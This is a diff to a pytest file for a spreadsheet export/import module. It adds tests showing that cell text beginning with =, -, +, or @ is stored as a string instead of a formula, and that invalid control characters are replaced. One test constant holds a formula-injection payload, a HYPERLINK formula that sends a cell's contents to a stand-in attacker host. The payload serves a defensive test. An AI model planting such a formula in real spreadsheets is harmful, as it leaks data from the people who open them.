@@ -13,6 +13,7 @@ from typing import Any
 import pytest
 from openpyxl import Workbook, load_workbook
 
+from kit.spreadsheets import REPLACEMENT
 from services.criteria.domain import excel
 from services.criteria.domain.excel import (
     COLUMNS,
@@ -27,6 +28,7 @@ from services.criteria.domain.excel import (
     parse_params,
     write_template,
 )
+from tests.support.workbooks import assert_only_text
 
 DATA = Path(__file__).resolve().parents[1] / "data"
 T, R = TABLE_SHEET, RANK_SHEET
@@ -202,6 +204,50 @@ def test_documents_beyond_the_sample_round_trip() -> None:
     result = import_table(data)
     assert result.errors == []
     assert result.document == document
+
+
+LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+
+
+def formula_like(document: dict[str, Any]) -> dict[str, Any]:
+    """``document`` with text that Excel would run or misread if it were not a string cell."""
+    document = copy.deepcopy(document)
+    document["title"] = LEAK
+    document["basis"] = "=1+1"
+    a_i = document["parts"][0]["children"][0]
+    a_i["title"] = "-Xây dựng văn bản"
+    a_i["children"][0]["title"] = "+1 văn bản"
+    a_i["children"][0]["guidance"] = "@SUM(A1:A9)"
+    a_i["children"][1]["responsible_unit"] = "=Phòng Văn bản"
+    a_i["children"][1]["title"] = "#N/A"
+    document["bonus"]["title"] = "=Điểm thưởng"
+    document["bonus"]["items"][0]["title"] = "-Mô hình hay"
+    return document
+
+
+def test_text_beginning_like_a_formula_is_a_string_and_round_trips() -> None:
+    """Titles, basis, guidance and units beginning with =, -, + or @ are string cells in the
+    export (no formula in the file), and importing the export gives the same table back."""
+    for base in (sample(), TEMPLATE_DOCUMENT):
+        document = formula_like(base)
+        data = export_table(document)
+        assert_only_text(data, LEAK, "=1+1", "+1 văn bản", "@SUM(A1:A9)", "#N/A")
+        ws = load_workbook(io.BytesIO(data))[TABLE_SHEET]
+        assert ws["B1"].value == LEAK and ws["B1"].data_type == "s"
+        result = import_table(data)
+        assert result.errors == []
+        assert result.document == document
+
+
+def test_stored_text_excel_cannot_hold_still_exports() -> None:
+    """A table stored before input was checked may hold U+0000, U+000B or U+001F: the export
+    still opens, showing U+FFFD there."""
+    document = sample()
+    document["title"] = "Bảng\x00tiêu\x0bchí\x1f"
+    document["parts"][0]["children"][0]["children"][0]["guidance"] = "dòng 1\x0bdòng 2"
+    ws = load_workbook(io.BytesIO(export_table(document)))[TABLE_SHEET]
+    assert ws["B1"].value == f"Bảng{REPLACEMENT}tiêu{REPLACEMENT}chí{REPLACEMENT}"
+    assert ws.cell(row_of(ws, "A.I.1"), 9).value == f"dòng 1{REPLACEMENT}dòng 2"
 
 
 def test_lenient_spellings_are_read() -> None:
